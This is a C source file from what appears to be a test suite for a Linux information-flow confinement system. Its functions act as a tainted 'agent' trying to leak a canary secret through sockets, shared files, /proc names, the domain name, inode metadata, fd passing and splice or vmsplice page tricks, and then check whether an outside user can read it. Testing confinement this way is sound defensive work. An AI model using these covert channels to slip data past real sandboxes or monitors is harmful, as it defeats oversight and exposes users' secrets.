// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* atk_variants.c - the bodies of attacks that come in variants (one channel, several spellings):
 * each variant stays its own attack file with its own header comment and result line, and
 * calls in here with the variant as an argument (atk_variants.h). Linked into every attack,
 * like atk.c. */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <stdint.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <pthread.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/tcp.h>
#include <linux/unix_diag.h>

#include "atk.h"
#include "atk_variants.h"

/* ---- sockets the agent did not create (foreign_*) */
int atkv_foreign_agent(struct atk_ctx *c, char code)
{
    char req[700];
    snprintf(req, sizeof(req), "%c%s", code, code == 'S' ? atk_arg(c, "c_unix") : "");
    int fd = -1;
    if (atk_try(c, "take helper's socket", atk_take(c, req, &fd, 1)) < 1)
        return 0;
    atk_recv(c); /* now tainted */
    if (code == 'S') {
        atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
    } else if (code == 'D') {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", atk_arg(c, "c_dgram"));
        atk_try(c, "sendto", sendto(fd, c->secret, strlen(c->secret), 0, (struct sockaddr *)&sa, sizeof(sa)));
    } else {
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        sa.sin_port = htons((uint16_t)atk_argl(c, code == 'U' ? "udp4" : "tcp4"));
        if (code == 'U')
            atk_try(c, "sendto", sendto(fd, c->secret, strlen(c->secret), 0, (struct sockaddr *)&sa, sizeof(sa)));
        else if (atk_try(c, "connect", connect(fd, (struct sockaddr *)&sa, sizeof(sa))) == 0)
            atk_try(c, "send", send(fd, c->secret, strlen(c->secret), MSG_NOSIGNAL));
    }
    usleep(100000);
    return 0;
}

/* ---- listeners created after the taint (listen_*) */
int atkv_listen_agent(struct atk_ctx *c, char kind)
{
    char addr[200];
    int l;
    if (kind == 't') {
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t sl = sizeof(sa);
        l = socket(AF_INET, SOCK_STREAM, 0);
        if (atk_try(c, "bind 127.0.0.1", l < 0 ? -1 : bind(l, (struct sockaddr *)&sa, sizeof(sa))) < 0)
            return 0;
        getsockname(l, (struct sockaddr *)&sa, &sl);
        snprintf(addr, sizeof(addr), "tcp:%d", ntohs(sa.sin_port));
    } else {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        socklen_t sl = sizeof(sa);
        if (kind == 'a') {
            snprintf(sa.sun_path + 1, sizeof(sa.sun_path) - 1, "mnc-atk-l-%d", getpid());
            sl = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(sa.sun_path + 1));
            snprintf(addr, sizeof(addr), "unix:@%s", sa.sun_path + 1);
        } else {
            snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/l.sock", atk_arg(c, "ws"));
            snprintf(addr, sizeof(addr), "unix:%s", sa.sun_path);
        }
        l = socket(AF_UNIX, SOCK_STREAM, 0);
        if (atk_try(c, "bind", l < 0 ? -1 : bind(l, (struct sockaddr *)&sa, sl)) < 0)
            return 0;
        if (kind == 'p')
            chmod(sa.sun_path, 0777);
    }
    if (atk_try(c, "listen", listen(l, 4)) < 0)
        return 0;
    pid_t pid = fork();
    if (pid == 0) { /* serve the canary to whoever connects */
        struct pollfd pf = {.fd = l, .events = POLLIN};
        if (poll(&pf, 1, 5000) == 1) {
            int a = accept(l, NULL, NULL);
            atk_try(c, "accept", a);
            if (a >= 0)
                atk_try(c, "write to accepted", write(a, c->secret, strlen(c->secret)));
        }
        _exit(0);
    }
    atk_sync(c, addr);
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    return 0;
}

void atkv_listen_on_sync(struct atk_ctx *c, const char *tag)
{
    int fd;
    if (strncmp(tag, "tcp:", 4) == 0) {
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        sa.sin_port = htons((uint16_t)atoi(tag + 4));
        fd = socket(AF_INET, SOCK_STREAM, 0);
        struct timeval tv = {.tv_sec = 2}; /* the agent's SYN-ACK may be dropped: do not hang */
        if (fd >= 0)
            setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
        if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
            close(fd);
            fd = -1;
        }
    } else {
        fd = atk_unix(SOCK_STREAM, tag + 5);
    }
    if (fd < 0)
        return;
    char buf[256];
    struct pollfd pf = {.fd = fd, .events = POLLIN};
    if (poll(&pf, 1, 2000) == 1) {
        ssize_t n = read(fd, buf, sizeof(buf));
        if (n > 0 && atk_buf_has(buf, (size_t)n, c->canary))
            atk_evidence(c, "outsider connected to the agent's listener %s and read the canary", tag);
    }
    close(fd);
}

/* ---- world-readable files in shared writable directories (dev_shm, tmp_file, var_tmp_file) */
int atkv_shared_file_prepare(struct atk_ctx *c, const char *dir)
{
    atk_set(c, "dir_shared", "%s", dir);
    atk_set(c, "path", "%s/mnc-atk-%d", dir, getpid());
    return 0;
}

int atkv_shared_file_agent(struct atk_ctx *c)
{
    char what[300];
    snprintf(what, sizeof(what), "create %s file 0666", atk_arg(c, "dir_shared"));
    int fd = (int)atk_try(c, what, open(atk_arg(c, "path"), O_WRONLY | O_CREAT | O_EXCL, 0666));
    if (fd < 0)
        return 0;
    fchmod(fd, 0666);
    atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
    return 0;
}

void atkv_shared_file_verify(struct atk_ctx *c) { atk_nobody_reads(c, atk_arg(c, "path")); }

void atkv_shared_file_cleanup(struct atk_ctx *c) { unlink(atk_arg(c, "path")); }

/* ---- writes straight into a sink the scope forbids (sink_*_write) */
int atkv_sink_write_agent(struct atk_ctx *c, int log)
{
    char p[700];
    if (log) /* the log sink file; else a new file in the memory directory */
        snprintf(p, sizeof(p), "%s", atk_arg(c, "log"));
    else
        snprintf(p, sizeof(p), "%s/atk-%d", atk_arg(c, "mem"), getpid());
    int fd = (int)atk_try(c, "open sink for writing", open(p, O_WRONLY | O_CREAT | O_APPEND, 0644));
    if (fd >= 0)
        atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
    return 0;
}

void atkv_sink_write_verify(struct atk_ctx *c)
{
    const char *log = getenv("ATK_LOG"), *mem = getenv("ATK_MEM");
    if (log && atk_file_has(log, c->canary) == 1)
        atk_evidence(c, "canary in the log sink %s", log);
    DIR *d = mem ? opendir(mem) : NULL;
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char p[1200];
        snprintf(p, sizeof(p), "%s/%s", mem, e->d_name);
        if (e->d_name[0] != '.' && atk_file_has(p, c->canary) == 1)
            atk_evidence(c, "canary in the memory sink %s", p);
    }
    if (d)
        closedir(d);
}

/* ---- socket names any process can read in /proc/net/unix (abstract_name, unix_path_name) */
int atkv_bound_name_agent(struct atk_ctx *c, int abstract)
{
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    socklen_t len = sizeof(sa);
    if (abstract) {
        snprintf(sa.sun_path + 1, sizeof(sa.sun_path) - 1, "%.90s", c->secret);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(sa.sun_path + 1));
    } else {
        snprintf(sa.sun_path, sizeof(sa.sun_path), "%.60s/%.40s", atk_arg(c, "ws"), c->secret);
    }
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    atk_try(c, "bind", fd < 0 ? -1 : bind(fd, (struct sockaddr *)&sa, len));
    atk_sync(c, "bound");
    return 0;
}

void atkv_bound_name_on_sync(struct atk_ctx *c, const char *tag)
{
    (void)tag;
    atk_nobody_reads(c, "/proc/net/unix");
}

/* ---- the host's NIS domain name as storage (procsys_write, setdomainname) */
static char orig_domainname[65]; /* restored by atkv_domainname_cleanup */

int atkv_domainname_prepare(struct atk_ctx *c)
{
    (void)c;
    struct utsname u;
    if (uname(&u) < 0)
        return -1;
    snprintf(orig_domainname, sizeof(orig_domainname), "%s", u.domainname);
    return 0;
}

void atkv_domainname_on_sync(struct atk_ctx *c, const char *tag)
{
    (void)tag;
    atk_nobody_reads(c, "/proc/sys/kernel/domainname");
}

void atkv_domainname_cleanup(struct atk_ctx *c)
{
    struct utsname u;
    if (uname(&u) == 0 && strcmp(u.domainname, orig_domainname) != 0 &&
        setdomainname(orig_domainname, strlen(orig_domainname)) < 0)
        fprintf(stderr, "%s: could not restore the domain name \"%s\"\n", c->a->name, orig_domainname);
}

/* ---- inode metadata of files outside the workspace as storage (fileattr_outside,
 * rw_hint_outside, atime_read) */

static int meta_nfiles(const struct atkv_meta *m) { return 12 * 4 / m->bits; }

int atkv_meta_prepare(struct atk_ctx *c, const struct atkv_meta *m)
{
    char d[300], p[320];
    c->slot[0] = 1; /* cleanup has files to remove */
    if (atk_sysfiles(m->tag, meta_nfiles(m), d, sizeof(d)) < 0) {
        snprintf(c->notes, sizeof(c->notes), "make the files outside the workspace: %s", strerror(errno));
        return -1;
    }
    for (int i = 0; m->init && i < meta_nfiles(m); i++) {
        atk_sysfile(p, sizeof(p), d, i);
        if (m->init(p) < 0) {
            snprintf(c->notes, sizeof(c->notes), "prepare %s: %s", p, strerror(errno));
            return -1;
        }
    }
    atk_set(c, "metadir", "%s", d);
    return 0;
}

static int hexval(char ch)
{
    if (ch >= '0' && ch <= '9')
        return ch - '0';
    if (ch >= 'a' && ch <= 'f')
        return ch - 'a' + 10;
    return -1;
}

int atkv_meta_agent(struct atk_ctx *c, const struct atkv_meta *m)
{
    const char *d = atk_arg(c, "metadir");
    int n = meta_nfiles(m), per = 4 / m->bits;
    if (!d || strncmp(c->secret, "mk", 2) != 0 || strlen(c->secret) < 2 + 12)
        return 0;
    int ok = 0, first_err = 0;
    for (int i = 0; i < n; i++) {
        int digit = hexval(c->secret[2 + i / per]);
        if (digit < 0)
            return 0;
        unsigned v = (unsigned)(digit >> (4 - m->bits * (i % per + 1))) & ((1u << m->bits) - 1);
        char p[200];
        atk_sysfile(p, sizeof(p), d, i);
        if (m->set(p, v) == 0)
            ok++;
        else if (!first_err)
            first_err = errno;
    }
    atk_note(c, "%s on %d/%d root-owned files outside the workspace: %s", m->set_name, ok, n,
             ok == n ? "OK" : atk_errname(first_err));
    return 0;
}

static const struct atkv_meta *meta_rd_m; /* meta_rd's channel, for its atk_as_uid child */

static int meta_rd(struct atk_ctx *c, char *out, size_t n)
{
    const struct atkv_meta *m = meta_rd_m;
    int per = 4 / m->bits;
    char got[32] = "mk";
    for (int i = 0; i < 12; i++) {
        unsigned v = 0;
        for (int j = 0; j < per; j++) {
            char p[200];
            atk_sysfile(p, sizeof(p), atk_arg(c, "metadir"), per * i + j);
            int x = m->get(p);
            if (x < 0 || x >= 1 << m->bits)
                return 0;
            v = (v << m->bits) | (unsigned)x;
        }
        got[2 + i] = "0123456789abcdef"[v];
    }
    got[2 + 12] = 0;
    if (strcmp(got, c->canary) != 0)
        return 0;
    snprintf(out, n, "uid 65534 decoded the canary from %s of %d files in %s", m->what, meta_nfiles(m),
             atk_arg(c, "metadir"));
    return 1;
}

void atkv_meta_verify(struct atk_ctx *c, const struct atkv_meta *m)
{
    char out[800];
    meta_rd_m = m;
    if (c->slot[0] && atk_as_uid(c, ATK_NOBODY, meta_rd, out, sizeof(out)) == 1)
        atk_evidence(c, "%s", out);
}

void atkv_meta_cleanup(struct atk_ctx *c, const struct atkv_meta *m)
{
    if (c->slot[0])
        atk_sysfiles_rm(m->tag, meta_nfiles(m));
}

/* ---- an admin-registered abstract tool sink the disclosure's scope allows (abstract_*) */

static void abs_tool_name(char *out, size_t n) { snprintf(out, n, "mnc-atk-abs-%d", (int)getpid()); }

int atkv_abs_tool_begin(struct atk_ctx *c, int nfds, char *name, size_t n)
{
    for (int i = 0; i < nfds; i++)
        c->fdslot[i] = -1;
    c->contract = "abs_tool_scope";
    c->slot[0] = 1; /* prepared: cleanup has fds to close and a sink to remove */
    abs_tool_name(name, n);
    char reg[80];
    snprintf(reg, sizeof(reg), "dgram:@%s", name);
    const char *add[] = {"sink", "add", "unix", reg, "abs_tool", "tool", NULL};
    if (atk_kern(c, add) != 0) {
        snprintf(c->notes, sizeof(c->notes), "mncctl kern sink add unix %s failed", reg);
        return -1;
    }
    atk_set(c, "abs", "%s", name);
    return 0;
}

void atkv_abs_tool_end(struct atk_ctx *c, int nfds)
{
    if (!c->slot[0])
        return;
    for (int i = 0; i < nfds; i++)
        if (c->fdslot[i] >= 0)
            close(c->fdslot[i]);
    char name[64], reg[80];
    abs_tool_name(name, sizeof(name));
    snprintf(reg, sizeof(reg), "dgram:@%s", name);
    const char *del[] = {"sink", "del", "unix", reg, NULL};
    (void)atk_kern(c, del);
}

socklen_t atkv_abs_addr(struct sockaddr_un *sa, const char *name, size_t n)
{
    memset(sa, 0, sizeof(*sa));
    sa->sun_family = AF_UNIX;
    memcpy(sa->sun_path + 1, name, strlen(name));
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n);
}

/* ---- a writable file fd the collector's helper hands out (foreign_file_fd, thread_private_file) */

void atkv_given_file_verify(struct atk_ctx *c)
{
    char p[700];
    snprintf(p, sizeof(p), "%s/given.out", c->dir);
    if (atk_file_has(p, c->canary) == 1)
        atk_evidence(c, "canary in %s (the helper's file)", p);
}

/* ---- an fd that reaches the agent after the taint (late_file_fd, late_socket_fd) */

int atkv_late_prepare(struct atk_ctx *c)
{
    atk_set(c, "late", "mnc-atk-late-%d", (int)getpid());
    return 0;
}

int atkv_late_agent(struct atk_ctx *c)
{
    const char *name = atk_arg(c, "late");
    int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un sa;
    socklen_t sl = name ? atkv_abs_addr(&sa, name, strlen(name) + 1) : 0;
    if (atk_try(c, "bind the abstract mailbox", s < 0 || !name ? -1 : bind(s, (struct sockaddr *)&sa, sl)) < 0)
        return 0;
    atk_recv(c); /* now tainted */
    atk_sync(c, "mailbox");
    atkv_late_write(c, s);
    return 0;
}

void atkv_late_write(struct atk_ctx *c, int s)
{
    struct pollfd pf = {.fd = s, .events = POLLIN};
    if (poll(&pf, 1, 3000) != 1) {
        atk_note(c, "poll for the late fd: nothing arrived in 3 s");
        return;
    }
    int fd = -1, got = atk_recv_fds(s, &fd, 1);
    if (got != 1) {
        atk_note(c, "recvmsg SCM_RIGHTS after the taint: %s",
                 got < 0 ? "no message (end of stream or error)" : "a message without the fd (refused on receipt)");
        return;
    }
    atk_note(c, "recvmsg SCM_RIGHTS after the taint: OK");
    atk_try(c, "write the canary into the late fd", write(fd, c->secret, strlen(c->secret)));
    close(fd);
}

int atkv_late_fd(struct atk_ctx *c, char kind)
{
    int fd = -1;
    if (kind == 'F') {
        char p[700];
        snprintf(p, sizeof(p), "%s/late.out", c->dir);
        fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd >= 0 && fchmod(fd, 0644) < 0) {
            close(fd);
            fd = -1;
        }
    } else if (kind == 'P') {
        int p[2];
        if (pipe2(p, O_CLOEXEC | O_NONBLOCK) == 0) {
            c->fdslot[0] = p[0]; /* the outsider keeps the read end (atkv_late_pipe_verify) */
            fd = p[1];
        }
    } else if (kind == 'T') {
        struct sockaddr_in si = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atk_argl(c, "tcp4"))};
        si.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&si, sizeof(si)) < 0) {
            close(fd);
            fd = -1;
        }
    } else {
        fd = atk_unix(SOCK_STREAM, atk_arg(c, "c_unix"));
    }
    return fd;
}

void atkv_late_on_sync(struct atk_ctx *c, char kind)
{
    const char *name = atk_arg(c, "late");
    int fd = atkv_late_fd(c, kind);
    int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un sa;
    socklen_t sl = name ? atkv_abs_addr(&sa, name, strlen(name) + 1) : 0;
    if (fd < 0 || s < 0 || !name || connect(s, (struct sockaddr *)&sa, sl) < 0 || atk_send_fds(s, 'L', &fd, 1) < 0)
        atk_note(c, "hand the late fd: %s", atk_errname(errno));
    if (fd >= 0)
        close(fd);
    if (s >= 0)
        close(s);
}

void atkv_late_file_verify(struct atk_ctx *c)
{
    char p[700];
    snprintf(p, sizeof(p), "%s/late.out", c->dir);
    atk_nobody_reads(c, p);
}

void atkv_late_pipe_verify(struct atk_ctx *c)
{
    if (c->fdslot[0] <= 0)
        return;
    char buf[512];
    ssize_t r = read(c->fdslot[0], buf, sizeof(buf));
    if (r > 0 && atk_buf_has(buf, (size_t)r, c->canary))
        atk_evidence(c, "the outsider read the canary from the pipe whose write end it sent");
    close(c->fdslot[0]);
    c->fdslot[0] = -1;
}

/* ---- a kept outsider (workspace_* attacks) */
int atkv_keeper_start(struct atk_ctx *c, const char *path, atkv_keeper_fn fn, const char *hint)
{
    int cmd[2], ans[2];
    if (pipe2(cmd, O_CLOEXEC) < 0)
        return -1;
    if (pipe2(ans, O_CLOEXEC) < 0) {
        close(cmd[0]);
        close(cmd[1]);
        return -1;
    }
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        close(cmd[1]);
        close(ans[0]);
        int dn = open("/dev/null", O_RDWR | O_CLOEXEC);
        if (dn < 0 || dup2(dn, 0) < 0 || dup2(dn, 1) < 0 || dup2(dn, 2) < 0)
            _exit(1);
        for (int fd = 3; fd < 1024; fd++)
            if (fd != cmd[0] && fd != ans[1])
                close(fd);
        fn(c, path, cmd[0], ans[1]);
        _exit(0);
    }
    close(cmd[0]);
    close(ans[1]);
    char x;
    if (read(ans[0], &x, 1) != 1) {
        int st = 0;
        waitpid(pid, &st, 0);
        snprintf(c->notes, sizeof(c->notes), "the outsider did not start (status %d%s%s)",
                 WIFEXITED(st) ? WEXITSTATUS(st) : -1, hint ? ": " : "", hint ? hint : "");
        close(cmd[1]);
        close(ans[0]);
        return -1;
    }
    c->slot[0] = pid;
    c->fdslot[0] = cmd[1];
    c->fdslot[1] = ans[0];
    return 0;
}

void atkv_keeper_verify(struct atk_ctx *c, const char *evidence)
{
    if (c->slot[0] <= 0)
        return;
    char buf[512];
    size_t n = 0;
    ssize_t r;
    if (write(c->fdslot[0], "g", 1) != 1)
        return;
    while (n < sizeof(buf) - 1 && (r = read(c->fdslot[1], buf + n, sizeof(buf) - 1 - n)) > 0)
        n += (size_t)r;
    if (atk_buf_has(buf, n, c->canary))
        atk_evidence(c, "%s", evidence);
}

void atkv_keeper_cleanup(struct atk_ctx *c)
{
    if (c->slot[0] > 0) {
        kill((pid_t)c->slot[0], SIGKILL);
        waitpid((pid_t)c->slot[0], NULL, 0);
        c->slot[0] = 0;
    }
    for (int i = 0; i < 2; i++)
        if (c->fdslot[i] > 0)
            close(c->fdslot[i]);
}

int atkv_shared_dir(struct atk_ctx *c, char *d, size_t n)
{
    snprintf(d, n, "%s/shared", c->ws);
    if (mkdir(d, 0777) < 0 || chown(d, ATK_NOBODY, ATK_NOBODY) < 0 || chmod(d, 0777) < 0) {
        snprintf(c->notes, sizeof(c->notes), "prepare %s: %s", d, strerror(errno));
        return -1;
    }
    return 0;
}

int atkv_shared_out_agent(struct atk_ctx *c, int reopen)
{
    char p[700];
    if (reopen) {
        snprintf(p, sizeof(p), "%s/shared", atk_arg(c, "ws"));
        atk_try(c, "chmod ws/shared 0777", chmod(p, 0777));
    }
    snprintf(p, sizeof(p), "%s/shared/out.txt", atk_arg(c, "ws"));
    int fd = (int)atk_try(c, "create ws/shared/out.txt", open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644));
    if (fd < 0)
        return 0;
    atk_try(c, "fchmod 0644", fchmod(fd, 0644));
    atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
    close(fd);
    return 0;
}

int atkv_notes_file(struct atk_ctx *c, char *f, size_t n)
{
    snprintf(f, n, "%s/notes.txt", c->ws);
    int fd = open(f, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);
    if (fd < 0 || fchmod(fd, 0666) < 0 || close(fd) < 0) {
        snprintf(c->notes, sizeof(c->notes), "prepare %s: %s", f, strerror(errno));
        return -1;
    }
    return 0;
}

int atkv_notes_agent(struct atk_ctx *c)
{
    char p[700];
    snprintf(p, sizeof(p), "%s/notes.txt", atk_arg(c, "ws"));
    int fd = (int)atk_try(c, "open ws/notes.txt O_WRONLY", open(p, O_WRONLY | O_TRUNC | O_CLOEXEC));
    if (fd < 0)
        return 0;
    atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
    close(fd);
    return 0;
}

/* ---- vmsplice_page_out, splice_ws_page_out, sendfile_ws_page_out, workspace_page_prelaunch */
#define ATKV_PAGE 4096

/* WS/notes.txt filled with one page of 'x' (so the page is in the page cache). 0 or -1. */
static int page_fill(int fd)
{
    char x[ATKV_PAGE];
    memset(x, 'x', sizeof(x));
    return pwrite(fd, x, sizeof(x), 0) == (ssize_t)sizeof(x) ? 0 : -1;
}

/* In a keeper, when asked: what the pipe's read end holds now, to ans; then exits. */
static void page_keeper_answer(int r, int cmd, int ans)
{
    char x, buf[ATKV_PAGE];
    if (read(cmd, &x, 1) != 1)
        _exit(0);
    ssize_t n = read(r, buf, sizeof(buf));
    if (n > 0 && write(ans, buf, (size_t)(n < 511 ? n : 511)) < 0)
        _exit(1);
    _exit(0);
}

/* The keeper with a connection on path: take = 0 hands the agent the pipe's write end and waits
 * for its "done" byte; take = 1 takes an fd from the agent, splices its first page into the pipe,
 * closes it and acknowledges. Then answers (page_keeper_answer). */
static void page_keeper_conn(const char *path, int cmd, int ans, int take)
{
    int l = atkv_keeper_listen(path);
    atkv_keeper_nobody();
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0)
        _exit(2);
    if (write(ans, "r", 1) != 1)
        _exit(1);
    int s = accept4(l, NULL, NULL, SOCK_CLOEXEC), m = -1;
    loff_t off = 0;
    char x = 'A';
    if (s < 0)
        _exit(3);
    if (take && (atk_recv_fds(s, &m, 1) != 1 || splice(m, &off, p[1], NULL, ATKV_PAGE, 0) != ATKV_PAGE ||
                 close(m) != 0 || write(s, &x, 1) != 1))
        _exit(3);
    if (!take && (atk_send_fds(s, 'W', &p[1], 1) < 0 || read(s, &x, 1) != 1)) /* agent done with it */
        _exit(3);
    close(p[1]);
    close(l);
    close(s);
    page_keeper_answer(p[0], cmd, ans);
}

static void page_keeper_give(const struct atk_ctx *c, const char *path, int cmd, int ans)
{
    (void)c;
    page_keeper_conn(path, cmd, ans, 0);
}

static void page_keeper_take(const struct atk_ctx *c, const char *path, int cmd, int ans)
{
    (void)c;
    page_keeper_conn(path, cmd, ans, 1);
}

static void page_keeper_prelaunch(const struct atk_ctx *c, const char *path, int cmd, int ans)
{
    (void)c;
    atkv_keeper_nobody();
    int p[2];
    int f = open(path, O_RDONLY | O_CLOEXEC);
    loff_t off = 0;
    if (f < 0 || pipe2(p, O_CLOEXEC) < 0)
        _exit(2);
    if (splice(f, &off, p[1], NULL, ATKV_PAGE, 0) != ATKV_PAGE)
        _exit(3);
    close(f);
    close(p[1]);
    if (write(ans, "r", 1) != 1)
        _exit(1);
    page_keeper_answer(p[0], cmd, ans);
}

int atkv_page_prepare(struct atk_ctx *c, int prelaunch)
{
    char f[700], k[700];
    if (atkv_notes_file(c, f, sizeof(f)) != 0)
        return -1;
    int fd = open(f, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || page_fill(fd) != 0 || close(fd) != 0) {
        snprintf(c->notes, sizeof(c->notes), "prepare fill %s: %s", f, strerror(errno));
        return -1;
    }
    if (prelaunch == 1)
        return atkv_keeper_start(c, f, page_keeper_prelaunch, "1 nobody, 2 open/pipe, 3 splice");
    snprintf(k, sizeof(k), "%s/kp.sock", c->dir);
    atk_set(c, "kp", "%s", k);
    if (prelaunch == 2)
        return atkv_keeper_start(c, k, page_keeper_take, "2 listen/pipe, 3 take the fd and splice it");
    return atkv_keeper_start(c, k, page_keeper_give, "2 listen/pipe, 3 hand the write end");
}

int atkv_page_agent(struct atk_ctx *c, char how)
{
    static char page[ATKV_PAGE] __attribute__((aligned(ATKV_PAGE)));
    char p[700];
    snprintf(p, sizeof(p), "%s/notes.txt", atk_arg(c, "ws"));
    int fd = -1, w = -1;
    if (how == 'm') { /* a memfd the outsider splices from, then closes */
        fd = (int)atk_try(c, "memfd_create", memfd_create("atk", MFD_CLOEXEC));
        int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, "kp")));
        if (fd < 0 || s < 0 || page_fill(fd) != 0)
            return 0;
        char ack;
        if (atk_try(c, "pass the memfd out", atk_send_fds(s, 'M', &fd, 1)) >= 0) /* refused: no ack */
            atk_try(c, "the outsider spliced it and closed it", read(s, &ack, 1));
        close(s);
    } else if (how != 'p') {
        int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, "kp")));
        if (s < 0 || atk_try(c, "take the pipe's write end", atk_recv_fds(s, &w, 1)) != 1)
            return 0;
        if (how == 'v') {
            memset(page, 'x', sizeof(page));
            struct iovec iv = {page, sizeof(page)};
            atk_try(c, "vmsplice a page of our memory", vmsplice(w, &iv, 1, 0));
        } else {
            fd = (int)atk_try(c, "open ws/notes.txt O_RDWR", open(p, O_RDWR | O_CLOEXEC));
            loff_t lo = 0;
            off_t so = 0;
            if (fd >= 0 && how == 's')
                atk_try(c, "splice ws/notes.txt into the pipe", splice(fd, &lo, w, NULL, ATKV_PAGE, 0));
            else if (fd >= 0)
                atk_try(c, "sendfile ws/notes.txt into the pipe", sendfile(w, fd, &so, ATKV_PAGE));
        }
        close(w);
        if (write(s, "d", 1) != 1)
            atk_note(c, "no done byte");
        close(s);
    }
    atk_recv(c);
    if (how == 'v') {
        memcpy(page, c->secret, strlen(c->secret));
        return 0;
    }
    if (fd < 0)
        fd = (int)atk_try(c, "open ws/notes.txt O_WRONLY", open(p, O_WRONLY | O_CLOEXEC));
    if (fd >= 0)
        atk_try(c, "pwrite the canary at offset 0", pwrite(fd, c->secret, strlen(c->secret), 0));
    return 0;
}

/* ---- file_fd_own_queue (nested=0), file_fd_nested_queue (nested=1) */
int atkv_own_queue_agent(struct atk_ctx *c)
{
    char req[700];
    snprintf(req, sizeof(req), "F%s/given.out", atk_arg(c, "dir"));
    int fd = -1, sv[2], iv[2] = {-1, -1};
    if (atk_try(c, "take helper's file fd", atk_take(c, req, &fd, 1)) < 1)
        return 0;
    if (atk_try(c, "socketpair", socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sv)) < 0)
        return 0;
    int nested = atk_argl(c, "nested") == 1;
    if (nested) {
        if (atk_try(c, "inner socketpair", socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, iv)) < 0 ||
            atk_try(c, "park the file in the inner queue", atk_send_fds(iv[0], 'F', &fd, 1)) < 0 ||
            atk_try(c, "park the inner socket in the outer queue", atk_send_fds(sv[0], 'S', &iv[1], 1)) < 0)
            return 0;
        close(iv[0]);
        close(iv[1]);
    } else if (atk_try(c, "park the file in our own queue", atk_send_fds(sv[0], 'F', &fd, 1)) < 0)
        return 0;
    close(fd);
    close(sv[0]);
    atk_recv(c);
    int got = -1;
    if (atk_try(c, "take it back", atk_recv_fds(sv[1], &got, 1)) < 1)
        return 0;
    if (nested) {
        int inner = got;
        got = -1;
        if (atk_try(c, "take the file from the inner socket", atk_recv_fds(inner, &got, 1)) < 1)
            return 0;
    }
    atk_try(c, "write", write(got, c->secret, strlen(c->secret)));
    return 0;
}

int atkv_keeper_listen(const char *path)
{
    int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
    if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof(sa)) < 0 || chmod(path, 0777) < 0 || listen(l, 4) < 0)
        _exit(2);
    return l;
}

int atkv_keeper_take_one(int l)
{
    int s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
    int fd = -1;
    if (s < 0 || atk_recv_fds(s, &fd, 1) != 1)
        _exit(3);
    if (write(s, "A", 1) != 1)
        _exit(3);
    close(s);
    close(l);
    return fd;
}

size_t atkv_keeper_read_until_asked(int m, int cmd, char *buf, size_t cap)
{
    size_t n = 0;
    for (;;) {
        struct pollfd pf[2] = {{.fd = m, .events = POLLIN}, {.fd = cmd, .events = POLLIN}};
        if (poll(pf, 2, -1) < 0)
            _exit(1);
        if (pf[0].revents & POLLIN) {
            ssize_t r = read(m, buf + n, cap - 1 - n);
            if (r > 0 && (n += (size_t)r) < cap - 1)
                continue;
        }
        if (pf[0].revents & (POLLHUP | POLLERR) && !(pf[0].revents & POLLIN))
            m = -1; /* poll ignores a negative fd: wait for the question only */
        if (pf[1].revents & (POLLIN | POLLHUP))
            break;
    }
    buf[n] = 0;
    return n;
}

void atkv_keeper_nobody(void)
{
